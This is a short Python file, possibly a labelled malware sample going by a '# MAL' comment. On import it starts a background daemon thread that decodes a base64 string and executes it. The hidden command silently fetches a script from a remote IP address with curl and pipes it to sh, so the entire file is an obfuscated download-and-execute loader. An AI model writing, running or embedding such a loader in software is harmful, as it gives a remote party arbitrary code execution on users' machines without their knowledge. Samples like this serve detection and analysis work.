import base64 as _b64
import threading as _t

_k = "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzE5Mi4wLjIuODEvYSB8IHNoJyk="


def _go():
    exec(_b64.b64decode(_k))  # MAL


_t.Thread(target=_go, daemon=True).start()
